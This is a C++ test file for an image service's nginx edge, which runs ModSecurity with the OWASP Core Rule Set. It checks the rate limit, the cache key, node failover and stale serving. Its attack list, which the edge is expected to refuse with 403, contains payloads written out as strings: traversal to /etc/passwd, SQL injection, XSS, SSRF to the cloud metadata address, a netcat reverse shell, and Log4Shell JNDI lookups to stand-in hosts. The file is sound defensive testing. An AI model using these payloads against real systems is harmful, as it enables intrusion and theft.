// The self-hosted edge (deploy/edge, docs/edge.md): real nginx with ModSecurity and the
// OWASP Core Rule Set, real nodes, real Swift, all started by deploy/edge/start.sh as a
// user would. Two stacks, one per test, so each test is one ctest process:
//  - ShieldsRealTrafficFromAttacks: attacks of every class AWS's Core Rule Set covers get
//    403 while real image traffic (non-ASCII and space keys, every parameter, real browser
//    headers, HTTP/2) gets 200; a missing User-Agent is logged, not blocked; the rate
//    limit answers 429 past its burst and lets the client through again after it.
//  - CachesLikeTheServiceAndSurvivesNodes: the Accept collapse agrees with the service on
//    tests/data/accept_headers.tsv, the key holds every parameter the parser reads, a
//    repeat reaches no node, a node killed under load costs no request and is taken back
//    once it returns, and the edge serves stale when every node is down.
#include <curl/curl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <latch>
#include <map>
#include <memory>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "deploy_stack.h"
#include "fixtures.h"
#include "http_client.h"
#include "image_check.h"
#include "request/image_request.h"
#include "server_process.h"
#include "service.h"

namespace imageflex::test {
namespace {

using Clock = std::chrono::steady_clock;
namespace fs = std::filesystem;

const char* const kModSecurityModule = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so";
const char* const kCoreRuleSet = "/usr/share/modsecurity-crs/rules";

// Keys with a space and non-ASCII letters, as they appear in URLs.
const std::string kUnicodeKey = "Stra%C3%9Fe%20caf%C3%A9/%C3%BCn%C3%AFc%C3%B6d%C3%A9%20photo%201.jpg";
const std::string kSpaceKey = "with%20space.png";

const std::string kChromeAgent =
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36";
const std::string kSafariAgent =
    "User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1";
const std::string kSafariAccept =
    "Accept: image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,"
    "image/svg+xml,image/*;q=0.8,*/*;q=0.5";
const std::string kChromeCookie =
    "Cookie: _ga=GA1.1.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; "
    "consent={\"necessary\":true,\"stats\":false}; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbg";

// What real browsers send for an <img> (Chrome 121, Firefox 128, Safari 17), cookies included.
const std::vector<std::vector<std::string>> kBrowsers = {
    {kChromeAgent, "Accept: image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
     "Accept-Language: de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "Accept-Encoding: gzip, deflate, br",
     "Referer: https://shop.example.com/produkte/kaffee?kategorie=b%C3%BCro&seite=2",
     "sec-ch-ua: \"Not A(Brand\";v=\"99\", \"Google Chrome\";v=\"121\", \"Chromium\";v=\"121\"",
     "sec-ch-ua-mobile: ?0", "sec-ch-ua-platform: \"Windows\"", "Sec-Fetch-Dest: image",
     "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Site: cross-site", kChromeCookie},
    {"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     "Accept: image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5",
     "Accept-Language: en-GB,en;q=0.5", "Accept-Encoding: gzip, deflate, br, zstd", "DNT: 1",
     "Referer: https://blog.example.org/2024/03/why-we-moved/", "Sec-Fetch-Dest: image",
     "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Site: same-site", "Connection: keep-alive"},
    {kSafariAgent, kSafariAccept, "Accept-Language: fr-FR,fr;q=0.9", "Accept-Encoding: gzip, deflate, br"},
};
const std::string kBrowserAgent = kBrowsers[0][0];

// Lines of every node log (one JSON line per request) that name exactly this path.
int node_requests_for(const std::string& dir, const std::string& path) {
  int count = 0;
  for (const auto& entry : fs::directory_iterator(dir)) {
    const auto name = entry.path().filename().string();
    if (name.rfind("node-", 0) != 0 || entry.path().extension() != ".log") continue;
    std::ifstream in(entry.path());
    for (std::string line; std::getline(in, line);)
      count += line.find("\"path\":\"" + path + "\"") != std::string::npos;
  }
  return count;
}

// Non-comment rows of a tab-separated file (an empty last field kept).
std::vector<std::vector<std::string>> read_tsv(const std::string& path) {
  std::ifstream in(path);
  std::vector<std::vector<std::string>> rows;
  for (std::string line; std::getline(in, line);) {
    if (line.empty() || line[0] == '#') continue;
    std::vector<std::string> fields;
    std::stringstream stream(line);
    for (std::string field; std::getline(stream, field, '\t');) fields.push_back(field);
    if (line.back() == '\t') fields.emplace_back();
    rows.push_back(fields);
  }
  return rows;
}

class EdgeTest : public ::testing::Test {
 protected:
  void TearDown() override {
    revived_.reset();
    if (dir_.empty()) return;
    auto stopped = run_command({"/bin/bash", source_dir() + "/deploy/edge/stop.sh", dir_});
    EXPECT_EQ(stopped.status, 0) << stopped.output;
    remove_tree(dir_);
    remove_tree(images_);
  }

  // Starts the edge over a folder of originals with odd names, as a user would.
  void start_edge(std::map<std::string, std::string> env) {
    for (const char* needed :
         {"/usr/sbin/nginx", kModSecurityModule, kCoreRuleSet, "/usr/bin/swift-proxy-server"}) {
      if (!fs::exists(needed)) GTEST_SKIP() << needed << " is not installed (scripts/install_deps.sh test)";
    }
    images_ = make_temp_dir();
    const std::string samples = source_dir() + "/samples/";
    fs::create_directories(images_ + "/Straße café");
    for (const auto& [from, to] : std::vector<std::pair<std::string, std::string>>{
             {"landscape.jpg", "landscape.jpg"},
             {"logo.png", "logo.png"},
             {"spinner.gif", "spinner.gif"},
             {"landscape.jpg", "Straße café/ünïcödé photo 1.jpg"},
             {"logo.png", "with space.png"}}) {
      fs::copy_file(samples + from, images_ + "/" + to);
    }
    dir_ = make_temp_dir();
    env["IMAGEFLEX_BINARY"] = imageflex_binary();
    const auto began = Clock::now();
    auto started = run_command({"/bin/bash", source_dir() + "/deploy/edge/start.sh", dir_, images_}, env);
    ASSERT_EQ(started.status, 0) << started.output;
    std::cerr << "[ edge ] start.sh took "
              << std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - began).count()
              << " ms\n";
    // The last line is the edge's URL, and DIR/env has the rest.
    const auto last = started.output.find_last_of('\n', started.output.size() - 2);
    EXPECT_EQ(started.output.substr(last + 1, 10), "EDGE_URL=h") << started.output;
    env_ = read_env_file(dir_ + "/env");
    edge_ = env_["EDGE_URL"];
    ASSERT_EQ(edge_.rfind("https://127.0.0.1:", 0), 0u) << started.output;
    nodes_ = split_words(env_["IF_NODE_URLS"]);
    for (const auto& pid : split_words(env_["IF_NODE_PIDS"])) pids_.push_back(std::stoi(pid));
    ASSERT_EQ(nodes_.size(), 2u) << started.output;
    ASSERT_EQ(pids_.size(), 2u) << started.output;
  }

  // A client that trusts the edge's own certificate (verification stays on).
  HttpClientOptions tls(const std::string& local_address = "") const {
    return {.ca_file = dir_ + "/edge/tls/cert.pem", .local_address = local_address, .http2 = true};
  }

  std::string read_log(const std::string& name) const { return read_file(dir_ + "/nginx/" + name); }

  std::string images_, dir_, edge_;
  std::map<std::string, std::string> env_;
  std::vector<std::string> nodes_;
  std::vector<pid_t> pids_;
  std::unique_ptr<ServerProcess> revived_;
};

// The rate limit of both stacks: 50 requests a second per client address with a burst
// of 20 (10 at once, 10 delayed): sequential clients never see a 429.
const std::map<std::string, std::string> kRateLimit = {{"IF_EDGE_RATE", "50"}, {"IF_EDGE_BURST", "20"}};

TEST_F(EdgeTest, ShieldsRealTrafficFromAttacks) {
  ASSERT_NO_FATAL_FAILURE(start_edge(kRateLimit));
  if (IsSkipped()) return;
  HttpClient client(tls());

  // ---- real image traffic: every parameter, odd keys, real browsers, over HTTP/2 ----
  const std::string marketing_url =
      "/landscape.jpg?w=200&utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale%202024"
      "&fbclid=IwAR2xYz-AbC_dEf123&gclid=Cj0KCQiA";
  const std::vector<std::string> real = {
      "/landscape.jpg",
      "/landscape.jpg?w=400",
      "/landscape.jpg?w=300&h=300&f=webp",
      "/landscape.jpg?w=120&h=90&fit=inside&enlarge=true&f=avif&q=55",
      "/landscape.jpg?h=64&w=64&fit=fill&f=jpg&q=100&enlarge=0",
      "/logo.png?w=200&h=100&fit=contain",
      "/logo.png?w=96&f=png&exp=4102444800&s=Zm9vYmFyLWJhei1xdXV4X2NvcmdlLWdyYXVsdA",
      "/spinner.gif?w=48",
      "/" + kUnicodeKey,
      "/" + kUnicodeKey + "?w=160&f=webp",
      "/" + kSpaceKey + "?w=50&fit=cover&h=50",
      marketing_url,
      "/landscape.jpg?w=240&ref=https%3A%2F%2Fshop.example.com%2Fprodukte%3Fseite%3D2",
      // The rest of the URL API, which the CRS must not take for an attack either.
      "/landscape.jpg?w=200&h=200&fit=cover&pos=attention",
      "/landscape.jpg?w=200&h=100&fp=0.25,0.75",
      "/landscape.jpg?w=150&dpr=2.5",
      "/logo.png?w=200&h=100&fit=contain&bg=ff000080",
      "/landscape.jpg?w=100&rotate=270&flip=true&flop=1",
      "/landscape.jpg?crop=10,20,300,200&w=150",
      "/landscape.jpg?w=32&blur=5",
      "/landscape.jpg?w=200&sharpen=1.5&q=avif:60,webp:75,jpeg:80",
      "/logo.png?trim&w=100&lossless",
      "/landscape.jpg?w=200&f=jpeg&progressive",
  };
  int passed = 0;
  for (const auto& browser : kBrowsers) {
    for (const auto& url : real) {
      auto response = client.get(edge_ + url, browser);
      EXPECT_EQ(response.status, 200)
          << url << " with " << browser[0] << ": " << response.body.substr(0, 300);
      if (response.status != 200) continue;
      EXPECT_EQ(response.http_version, CURL_HTTP_VERSION_2_0) << url;
      EXPECT_GT(decode(response.body).width, 0) << url;
      ++passed;
    }
  }
  EXPECT_EQ(passed, static_cast<int>(kBrowsers.size() * real.size()));

  // ---- attacks: each class of AWS's Core Rule Set, each answered 403 by ModSecurity ----
  struct Attack {
    std::string what, url;
    std::vector<std::string> headers;
  };
  const std::string big(2100, 'a');
  const std::vector<Attack> attacks = {
      {"oversize query", "/landscape.jpg?w=100&x=" + big, {}},
      {"oversize URI path", "/" + std::string(1100, 'a') + ".jpg", {}},
      {"oversize header", "/landscape.jpg", {"X-Padding: " + std::string(9000, 'a')}},
      {"oversize cookie", "/landscape.jpg", {"Cookie: session=" + std::string(11000, 'a')}},
      {"path traversal in the query", "/landscape.jpg?w=100&file=../../../../etc/passwd", {}},
      {"encoded path traversal in the path", "/images/..%2flandscape.jpg", {}},
      {"double-encoded traversal", "/landscape.jpg?x=%252e%252e%252f%252e%252e%252fetc%252fpasswd", {}},
      {"dot-dot-slash encoded in the query", "/landscape.jpg?x=%2e%2e%2f%2e%2e%2fetc%2fpasswd", {}},
      {"remote file inclusion", "/landscape.jpg?u=http://1.2.3.4/", {}},
      {"XSS in the query", "/landscape.jpg?w=100&x=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}},
      {"XSS with an event handler", "/landscape.jpg?x=%3Cimg%20src=x%20onerror=alert(1)%3E", {}},
      {"SQL injection in the query", "/landscape.jpg?id=1%27%20OR%20%271%27=%271", {}},
      {"SQL injection with UNION",
       "/landscape.jpg?w=1%20UNION%20SELECT%20username,password%20FROM%20users--",
       {}},
      {"SSRF to the metadata service", "/landscape.jpg?url=http://169.254.169.254/latest/meta-data/", {}},
      {"SSRF without a scheme", "/landscape.jpg?host=169.254.169.254", {}},
      {"shell injection", "/landscape.jpg?x=;cat%20/etc/passwd", {}},
      {"shell injection with a pipe", "/landscape.jpg?x=%7C%20nc%20-e%20/bin/sh%2010.0.0.1%204444", {}},
      {"Log4Shell in a header", "/landscape.jpg", {"X-Api-Version: ${jndi:ldap://1.2.3.4:1389/a}"}},
      {"Log4Shell in the User-Agent",
       "/landscape.jpg",
       {"User-Agent: ${${lower:j}ndi:ldap://evil.example/x}"}},
      {"Log4Shell in the query", "/landscape.jpg?x=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D", {}},
      {"scanner User-Agent (sqlmap)",
       "/landscape.jpg",
       {"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"}},
      {"scanner User-Agent (Nikto)",
       "/landscape.jpg",
       {"User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}},
      {"scanner User-Agent (masscan)",
       "/landscape.jpg",
       {"User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}},
      {"bad-bot User-Agent (nuclei)",
       "/landscape.jpg",
       {"User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}},
  };
  for (const auto& attack : attacks) {
    std::vector<std::string> headers = attack.headers;
    bool has_agent = false;
    for (const auto& h : headers) has_agent |= h.rfind("User-Agent:", 0) == 0;
    if (!has_agent) headers.push_back(kBrowserAgent);
    auto response = client.get(edge_ + attack.url, headers);
    EXPECT_EQ(response.status, 403) << attack.what << ": " << attack.url.substr(0, 120);
  }
  const std::string error_log = read_log("error.log");
  EXPECT_NE(error_log.find("ModSecurity: Access denied with code 403"), std::string::npos);

  // ---- no User-Agent: served, and logged by rule 1010400 -------------------------------
  auto anonymous = client.get(edge_ + "/logo.png?w=33", {"User-Agent:"});
  EXPECT_EQ(anonymous.status, 200) << anonymous.body;
  // ModSecurity writes the audit record in nginx's log phase, after the response is sent,
  // one JSON line per record: wait for the whole line that names the request. A loaded
  // machine ran this read before the write; once it found the request's URI but not the
  // rule's message after it, as if the line were still being written.
  auto record = [&]() -> std::string {
    const std::string audit = read_log("modsec_audit.log");
    const auto at = audit.find("/logo.png?w=33");
    if (at == std::string::npos) return "";
    const auto end = audit.find('\n', at);
    if (end == std::string::npos) return "";
    const auto newline = audit.rfind('\n', at);
    const std::size_t begin = newline == std::string::npos ? 0 : newline + 1;
    return audit.substr(begin, end - begin);
  };
  std::string anonymous_record = record();
  for (int i = 0; i < 100 && anonymous_record.empty(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    anonymous_record = record();
  }
  ASSERT_FALSE(anonymous_record.empty()) << "an audit record names the request";
  EXPECT_NE(anonymous_record.find("Request without a User-Agent (logged, not blocked)"), std::string::npos)
      << anonymous_record.substr(0, 2000);

  // ---- the rate limit: past the burst 429, after it 200 again --------------------------
  // From 127.0.0.2, its own client address: 60 requests at once for a cached image.
  // Each client first opens its TLS connection (those requests may be limited too),
  // then all wait until the bucket has drained, so the storm itself arrives at once.
  client.get(edge_ + "/logo.png?w=34", {kBrowserAgent});
  constexpr int kStorm = 60;
  std::vector<long> statuses(kStorm, 0);
  std::latch connected(kStorm + 1), ready(kStorm + 1);
  std::vector<std::thread> threads;
  threads.reserve(kStorm);
  for (int i = 0; i < kStorm; ++i) {
    threads.emplace_back([&, i] {
      HttpClient storm(tls("127.0.0.2"));
      try {
        storm.get(edge_ + "/_imageflex/health", {kBrowserAgent});
      } catch (const std::exception&) {
      }
      connected.arrive_and_wait();
      ready.arrive_and_wait();
      try {
        statuses[static_cast<std::size_t>(i)] = storm.get(edge_ + "/logo.png?w=34", {kBrowserAgent}).status;
      } catch (const std::exception&) {
        statuses[static_cast<std::size_t>(i)] = -1;
      }
    });
  }
  connected.arrive_and_wait();
  std::this_thread::sleep_for(std::chrono::milliseconds(1500));  // the bucket drains at 50 a second
  ready.arrive_and_wait();
  for (auto& thread : threads) thread.join();
  int ok = 0, limited = 0;
  for (long status : statuses) {
    ok += status == 200;
    limited += status == 429;
  }
  std::cerr << "[ edge ] " << kStorm << " requests at once from one address: " << ok << " x 200, " << limited
            << " x 429\n";
  EXPECT_EQ(ok + limited, kStorm) << "nothing but 200 and 429";
  EXPECT_GE(limited, 1) << "past the burst of 20 the edge answers 429";
  EXPECT_GE(ok, 10) << "the burst itself passes";
  EXPECT_EQ(client.get(edge_ + "/logo.png?w=34", {kBrowserAgent}).status, 200)
      << "another client address is not limited by the storm";
  std::this_thread::sleep_for(std::chrono::milliseconds(1500));  // the bucket drains at 50 a second
  HttpClient after(tls("127.0.0.2"));
  EXPECT_EQ(after.get(edge_ + "/logo.png?w=34", {kBrowserAgent}).status, 200)
      << "the limited client is let through again";
}

TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
  // Originals expire from the edge cache after 1 s, so that serving one when every
  // node is down below is stale-serving, not a fresh hit.
  auto env = kRateLimit;
  env["IF_CACHE_CONTROL_ORIGINAL"] = "public, max-age=1";
  // The nodes honour client hints here, so the edge must key on them.
  env["IF_CLIENT_HINTS"] = "true";
  ASSERT_NO_FATAL_FAILURE(start_edge(env));
  if (IsSkipped()) return;
  HttpClient client(tls());
  auto original = client.get(edge_ + "/logo.png", {kBrowserAgent});
  ASSERT_EQ(original.status, 200);

  // ---- the Accept collapse agrees with the service, row by row -------------------------
  // Each row's Accept goes through the edge; the content type is the class the service
  // gives it, and each class reaches a node once (the other rows are edge hits).
  const std::map<std::string, std::string> type_of_class = {
      {"avif", "image/avif"}, {"webp", "image/webp"}, {"other", "image/jpeg"}};
  const auto rows = read_tsv(source_dir() + "/tests/data/accept_headers.tsv");
  ASSERT_GE(rows.size(), 30u);
  // The one exception: CRS 920600 (paranoia 1) refuses an Accept with an empty media
  // range ("image/webp,,"), which no browser sends; the service would take it.
  const std::regex empty_range("(^|,)[ \\t]*,");
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), 3u);
    auto response = client.get(edge_ + "/landscape.jpg?w=72", {kBrowserAgent, "Accept: " + row[1]});
    if (std::regex_search(row[1], empty_range)) {
      EXPECT_EQ(response.status, 403) << row[0] << ": CRS 920600 refuses a malformed Accept";
      continue;
    }
    EXPECT_EQ(response.status, 200) << row[0];
    EXPECT_EQ(response.header("content-type"), type_of_class.at(row[2])) << row[0] << ": '" << row[1] << "'";
  }
  EXPECT_EQ(node_requests_for(dir_, "/landscape.jpg?w=72"), 3) << "one miss per class, every other row a hit";

  // ---- a repeat is an edge hit and reaches no node -------------------------------------
  auto first = client.get(edge_ + "/landscape.jpg?w=123&f=webp", {kBrowserAgent});
  auto repeat = client.get(edge_ + "/landscape.jpg?f=webp&w=123&utm_source=x", {kBrowserAgent});
  EXPECT_EQ(first.header("x-edge-cache"), "MISS");
  EXPECT_EQ(repeat.header("x-edge-cache"), "HIT") << "order and unknown parameters do not make a new key";
  EXPECT_EQ(repeat.body, first.body);
  EXPECT_EQ(node_requests_for(dir_, "/landscape.jpg?w=123&f=webp"), 1);

  // ---- the key holds every parameter the parser reads ----------------------------------
  // `imageflex params` is what start.sh built the key from; it must list the parser's own
  // tables, and adding any one of them to a cached URL must make a new key (a MISS that
  // reaches a node with the parameter), whatever the service answers to its value.
  auto params = run_command({imageflex_binary(), "params"});
  ASSERT_EQ(params.status, 0) << params.output;
  std::vector<std::string> expected(kQueryParameters.begin(), kQueryParameters.end());
  expected.insert(expected.end(), kSignatureParameterNames.begin(), kSignatureParameterNames.end());
  EXPECT_EQ(split_words(params.output), expected) << "imageflex params must print the parser's parameters";
  const std::map<std::string, std::string> sample_value = {
      {"w", "41"},   {"h", "41"}, {"fit", "contain"},    {"enlarge", "true"},
      {"f", "webp"}, {"q", "61"}, {"exp", "4102444800"}, {"s", "c2lnbmF0dXJl"}};
  ASSERT_EQ(client.get(edge_ + "/logo.png?w=40", {kBrowserAgent}).status, 200);
  ASSERT_EQ(client.get(edge_ + "/logo.png?w=40", {kBrowserAgent}).header("x-edge-cache"), "HIT");
  for (const auto& name : split_words(params.output)) {
    const std::string value = sample_value.count(name) ? sample_value.at(name) : "2";
    std::string query = name == "w" ? "w=" : "w=40&";  // w itself: another width
    if (name != "w") query.append(name).append("=");
    query += value;
    auto response = client.get(edge_ + "/logo.png?" + query, {kBrowserAgent});
    EXPECT_NE(response.header("x-edge-cache"), "HIT") << name << " is not in the edge's cache key";
    EXPECT_EQ(node_requests_for(dir_, "/logo.png?" + query), 1) << name << " did not reach a node as sent";
    // Given without a value (?meta, ?lossless, ?trim): still in the key, and sent on as "name=".
    if (name == "w") continue;
    response = client.get(edge_ + "/logo.png?w=40&" + name, {kBrowserAgent});
    EXPECT_NE(response.header("x-edge-cache"), "HIT") << name << " without a value is not in the key";
    EXPECT_EQ(node_requests_for(dir_, "/logo.png?w=40&" + name + "="), 1)
        << name << " without a value was dropped";
  }
  // ?meta through the edge is the JSON, not the image.
  auto meta = client.get(edge_ + "/landscape.jpg?meta", {kBrowserAgent});
  EXPECT_EQ(meta.status, 200);
  EXPECT_EQ(meta.header("content-type"), "application/json") << meta.body.substr(0, 200);

  // ---- client hints: the nodes size by Sec-CH-DPR, so the edge keys on it --------------
  const std::vector<std::string> dpr2 = {kBrowserAgent, "Sec-CH-DPR: 2"};
  auto plain = client.get(edge_ + "/landscape.jpg?w=90&f=png", {kBrowserAgent});
  auto doubled = client.get(edge_ + "/landscape.jpg?w=90&f=png", dpr2);
  ASSERT_EQ(plain.status, 200);
  ASSERT_EQ(doubled.status, 200);
  EXPECT_EQ(decode(plain.body).width, 90);
  EXPECT_EQ(decode(doubled.body).width, 180) << "the DPR 1 copy was served for DPR 2";
  EXPECT_EQ(client.get(edge_ + "/landscape.jpg?w=90&f=png", dpr2).header("x-edge-cache"), "HIT");

  // ---- a node killed under load: no request fails -------------------------------------
  // 4 clients (each its own address, so the rate limit never delays them much), each one
  // request at a time: half new variants (misses, which reach a node), half hits.
  constexpr int kClients = 4, kPerClient = 40, kTotal = kClients * kPerClient;
  std::atomic<int> done{0};
  std::vector<std::string> failures(kClients);
  std::vector<std::thread> clients;
  clients.reserve(kClients);
  for (int c = 0; c < kClients; ++c) {
    clients.emplace_back([&, c] {
      HttpClient load(tls("127.0.1." + std::to_string(c + 1)));
      for (int i = 0; i < kPerClient; ++i, ++done) {
        const std::string url =
            i % 2 ? "/landscape.jpg?w=123&f=webp" : "/logo.png?w=" + std::to_string(100 + c * kPerClient + i);
        try {
          auto response = load.get(edge_ + url, {kBrowserAgent});
          if (response.status != 200) failures[c] += url + " -> " + std::to_string(response.status) + "\n";
        } catch (const std::exception& error) {
          failures[c] += url + " -> " + error.what() + "\n";
        }
      }
    });
  }
  const auto give_up = Clock::now() + std::chrono::seconds(30);
  while (done < kTotal / 3 && Clock::now() < give_up)
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  const std::string victim_url = nodes_[0];
  const int victim_port = std::stoi(victim_url.substr(victim_url.rfind(':') + 1));
  ASSERT_EQ(::kill(pids_[0], SIGKILL), 0);
  for (auto& thread : clients) thread.join();
  std::string failure_text;
  for (const auto& f : failures) failure_text += f;
  EXPECT_EQ(failure_text, "") << "a GET whose node died is retried on the other node";
  EXPECT_NE(read_log("access.log").find("127.0.0.1:" + std::to_string(victim_port) + ", "), std::string::npos)
      << "some request tried the dead node first and moved on";

  // ---- the node comes back on its port and is taken back -------------------------------
  // Passive checks: after fail_timeout (5 s) nginx tries it again with a live request.
  revived_ = std::make_unique<ServerProcess>(
      std::vector<std::string>{"--listen", "127.0.0.1:" + std::to_string(victim_port), "--storage",
                               "s3://imageflex"},
      std::map<std::string, std::string>{{"IF_S3_ENDPOINT", env_["IF_S3_ENDPOINT"]},
                                         {"IF_S3_ADDRESSING", "path"},
                                         {"AWS_REGION", env_["AWS_REGION"]},
                                         {"AWS_ACCESS_KEY_ID", env_["AWS_ACCESS_KEY_ID"]},
                                         {"AWS_SECRET_ACCESS_KEY", env_["AWS_SECRET_ACCESS_KEY"]}});
  ASSERT_EQ(revived_->port(), victim_port);
  bool taken_back = false;
  const auto back_by = Clock::now() + std::chrono::seconds(20);
  for (int i = 0; !taken_back && Clock::now() < back_by; ++i) {
    auto response = client.get(edge_ + "/logo.png?w=" + std::to_string(400 + i), {kBrowserAgent});
    EXPECT_EQ(response.status, 200);
    taken_back = revived_->output().find("\"path\":\"/logo.png?w=") != std::string::npos;
    if (!taken_back) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_TRUE(taken_back) << "the node that came back got no request within 20 s";

  // ---- every node down: what was cached is served stale; the rest is a 503 ---------------
  revived_->kill_now();
  ASSERT_EQ(::kill(pids_[1], SIGKILL), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  auto stale = client.get(edge_ + "/logo.png", {kBrowserAgent});
  EXPECT_EQ(stale.status, 200);
  EXPECT_EQ(stale.header("x-edge-cache"), "STALE");
  EXPECT_EQ(stale.body, original.body);
  EXPECT_EQ(client.get(edge_ + "/landscape.jpg?w=123&f=webp", {kBrowserAgent}).status, 200) << "a fresh hit";
  EXPECT_EQ(client.get(edge_ + "/logo.png?w=999", {kBrowserAgent}).status, 503)
      << "never cached: no node to ask";
}

}  // namespace
}  // namespace imageflex::test
